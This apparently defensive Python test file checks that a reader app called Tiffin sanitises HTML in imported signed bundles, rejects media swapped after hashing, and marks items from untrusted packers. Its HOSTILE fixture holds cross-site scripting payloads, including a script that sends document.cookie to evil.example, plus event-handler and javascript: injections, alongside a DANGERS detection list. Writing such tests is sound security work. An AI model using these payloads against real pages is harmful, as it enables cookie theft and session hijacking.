"""A bundle is untrusted input even when signed: what it carries is sanitised as a fetch is,
and a file changed after it was checked is never the one imported."""

from __future__ import annotations

from pathlib import Path

import httpx

from share.test_bundles import _library, receiver, sender  # noqa: F401 - fixtures
from tiffin.config import Paths
from tiffin.library import downloads, item_rows, queries
from tiffin.library.store import Store
from tiffin.share import keys
from tiffin.share.export import Selection, export_bundle
from tiffin.share.import_bundle import import_bundle
from tiffin.share.serve import LanShare

HOSTILE = (
    '<p onclick="steal()">Rally<script>fetch("http://evil.example/?c="+document.cookie)</script>'
    '<img src="http://track.example/pixel.gif" onerror="alert(1)">'
    '<iframe src="http://evil.example/frame"></iframe>'
    '<a href="javascript:alert(1)">more</a><svg onload="alert(2)"></svg>'
    '<img src="tiffin-image:not-in-the-bundle.png"></p>'
)
DANGERS = ("<script", "onerror", "onclick", "onload", "<iframe", "javascript:", "<svg",
           "<img src=\"http", "not-in-the-bundle")  # fmt: skip


def _poison(store: Store) -> None:
    """What a hostile packer's own copy of Tiffin would put in its library, unsanitised."""
    with store.write() as db:
        db.execute(
            "UPDATE items SET summary_html = ?, content_html = ?, article_html = ?,"
            " title = ?, url = 'javascript:alert(3)'",
            (HOSTILE, HOSTILE, HOSTILE, "<b>Rally</b><script>x()</script>"),
        )


def test_a_hostile_signed_bundle_brings_only_sanitised_html(
    sender: tuple[Paths, Store],  # noqa: F811
    receiver: tuple[Paths, Store],  # noqa: F811
    tmp_path: Path,
) -> None:
    paths, store = sender
    _poison(store)
    usb = tmp_path / "usb" / "bundle"
    export_bundle(store, paths, usb, Selection(), "Mallory")
    to_paths, to_store = receiver
    report = import_bundle(to_store, to_paths, usb)
    assert report.items == 2
    for item in queries.list_items(to_store):
        for html in (item.summary_html, item.content_html, item.article_html):
            assert html, item.title
            assert [d for d in DANGERS if d in html] == [], html
            assert "Rally" in html
        assert "[picture]" in item.summary_html  # the remote picture is a plain link now
        assert item.title == "Rally", item.title
        assert item.url == ""
        assert item.packer == report.bundle.packer.key
        assert item.packer not in keys.trusted(to_paths)  # marked as from an untrusted packer
    share = LanShare(to_store, to_paths, "127.0.0.1", 0, announce=False).start()
    try:
        with httpx.Client(trust_env=False, follow_redirects=True) as phone:
            base = f"http://127.0.0.1:{share.port}"
            phone.get(f"{base}/?t={share.code}")
            first = queries.list_items(to_store)[0]
            page = phone.get(f"{base}/item/{first.id}").text
    finally:
        share.stop()
    assert "does not trust" in page and "<script" not in page


def test_a_file_swapped_after_it_was_checked_is_never_imported(
    sender: tuple[Paths, Store],  # noqa: F811
    receiver: tuple[Paths, Store],  # noqa: F811
    tmp_path: Path,
    clip: Path,
) -> None:
    paths, store = sender
    usb = tmp_path / "usb" / "bundle"
    export_bundle(store, paths, usb, Selection(), "Ayesha")
    media = next(p for p in (usb / "media").rglob("*.mp4"))
    original = media.read_bytes()
    swapped: list[bool] = []

    def swap_when_all_are_hashed(done: int, total: int) -> None:
        if done == total and not swapped:
            media.write_bytes(b"\0" * len(original))  # the same size: only the hash can tell
            swapped.append(True)

    to_paths, to_store = receiver
    import_bundle(to_store, to_paths, usb, swap_when_all_are_hashed)
    assert swapped
    entry = downloads.list_downloads(to_store)[0]
    assert (to_paths.data_dir / "media" / str(entry.path)).read_bytes() == clip.read_bytes()
    assert not list(to_paths.data_dir.glob(".import-*"))  # the staging copy is gone


def test_the_item_list_marks_items_from_an_untrusted_packer(
    sender: tuple[Paths, Store],  # noqa: F811
    receiver: tuple[Paths, Store],  # noqa: F811
    tmp_path: Path,
) -> None:
    paths, store = sender
    usb = tmp_path / "usb" / "bundle"
    export_bundle(store, paths, usb, Selection(), "Ayesha")
    to_paths, to_store = receiver
    report = import_bundle(to_store, to_paths, usb)
    rows = item_rows.list_item_rows(to_store, trusted=keys.trusted(to_paths))
    assert rows and all(r.untrusted for r in rows)
    keys.trust(to_paths, report.bundle.packer)
    rows = item_rows.list_item_rows(to_store, trusted=keys.trusted(to_paths))
    assert not any(r.untrusted for r in rows)
